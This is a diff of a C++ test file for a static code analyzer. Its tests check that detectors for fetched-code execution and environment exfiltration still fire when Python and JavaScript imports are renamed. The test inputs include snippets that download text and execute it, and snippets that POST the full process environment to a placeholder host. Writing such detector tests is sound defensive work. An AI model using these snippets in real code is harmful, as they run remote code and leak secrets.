@@ -10,19 +10,8 @@
 using namespace toolwall;
 using code::Language;
 using code::canonical_aliases;
-using code::test::detectors_of;
+using code::test::check_detector;
 using code::test::has_detector;
-using code::test::shipped_analyzer;
-
-namespace {
-
-void check(const char* path, const std::string& code, const char* detector, bool should_match) {
-  auto facts = shipped_analyzer()->analyze_write(path, code);
-  INFO(path << ":\n" << code << "\nfound: " << detectors_of(facts));
-  CHECK(has_detector(facts, detector) == should_match);
-}
-
-}  // namespace
 
 TEST_CASE("module aliases and from-imports are spelled canonically, line breaks kept") {
   auto python = canonical_aliases(Language::python,
@@ -48,31 +37,31 @@ TEST_CASE("module aliases and from-imports are spelled canonically, line breaks 
 }
 
 TEST_CASE("renamed sinks and sources still reach the detectors") {
-  check("a.py", "import subprocess as sp, requests\ndef go(u):\n    sp.run(requests.get(u).text, shell=True)\n",
+  check_detector("a.py", "import subprocess as sp, requests\ndef go(u):\n    sp.run(requests.get(u).text, shell=True)\n",
         "code.exec.fetched-code", true);
-  check("a.py", "from os import system\nfrom urllib.request import urlopen\ndef go(u):\n    system(urlopen(u).read())\n",
+  check_detector("a.py", "from os import system\nfrom urllib.request import urlopen\ndef go(u):\n    system(urlopen(u).read())\n",
         "code.exec.fetched-code", true);
-  check("a.py", "import requests as r\ndef go(u):\n    exec(r.get(u).text)\n", "code.exec.fetched-code", true);
-  check("a.py", "import requests\ndef go(u):\n    __import__('os').system(requests.get(u).text)\n", "code.exec.fetched-code",
+  check_detector("a.py", "import requests as r\ndef go(u):\n    exec(r.get(u).text)\n", "code.exec.fetched-code", true);
+  check_detector("a.py", "import requests\ndef go(u):\n    __import__('os').system(requests.get(u).text)\n", "code.exec.fetched-code",
         true);
-  check("a.py", "import os as o, requests\ndef go(u):\n    requests.post(u, json=dict(o.environ))\n",
+  check_detector("a.py", "import os as o, requests\ndef go(u):\n    requests.post(u, json=dict(o.environ))\n",
         "code.exfil.env-to-network", true);
-  check("a.js", "const env = process['env'];\nfetch('https://x.example.com', { method: 'POST', body: JSON.stringify(env) });\n",
+  check_detector("a.js", "const env = process['env'];\nfetch('https://x.example.com', { method: 'POST', body: JSON.stringify(env) });\n",
         "code.exfil.env-to-network", true);
-  check("a.js", "const axios = require('axios');\nconst { env } = process;\naxios.post('https://x.example.com', env);\n",
+  check_detector("a.js", "const axios = require('axios');\nconst { env } = process;\naxios.post('https://x.example.com', env);\n",
         "code.exfil.env-to-network", true);
-  check("a.js",
+  check_detector("a.js",
         "const { exec: run } = require('child_process');\n(async () => { run(await (await fetch(u)).text()); })();\n",
         "code.exec.fetched-code", true);
 }
 
 TEST_CASE("renamed imports used for ordinary work stay ordinary") {
-  check("a.py", "from subprocess import run\nimport requests as r\ndef go(u):\n    data = r.get(u).json()\n    run(['git', 'status'])\n",
+  check_detector("a.py", "from subprocess import run\nimport requests as r\ndef go(u):\n    data = r.get(u).json()\n    run(['git', 'status'])\n",
         "code.exec.fetched-code", false);
-  check("a.py", "from os import environ\nimport requests\nPORT = int(environ.get('PORT', '8000'))\nrequests.get('https://x.example.com/health')\n",
+  check_detector("a.py", "from os import environ\nimport requests\nPORT = int(environ.get('PORT', '8000'))\nrequests.get('https://x.example.com/health')\n",
         "code.exfil.env-to-network", false);
-  check("a.py", "import requests\ndef app(environ, start_response):\n    requests.post(u, json={'path': environ['PATH_INFO']})\n",
+  check_detector("a.py", "import requests\ndef app(environ, start_response):\n    requests.post(u, json={'path': environ['PATH_INFO']})\n",
         "code.exfil.env-to-network", false);
-  check("a.js", "const env = process['env']['NODE_ENV'];\nfetch('/api', { method: 'POST', body: JSON.stringify({ env }) });\n",
+  check_detector("a.js", "const env = process['env']['NODE_ENV'];\nfetch('/api', { method: 'POST', body: JSON.stringify({ env }) });\n",
         "code.exfil.env-to-network", false);
 }
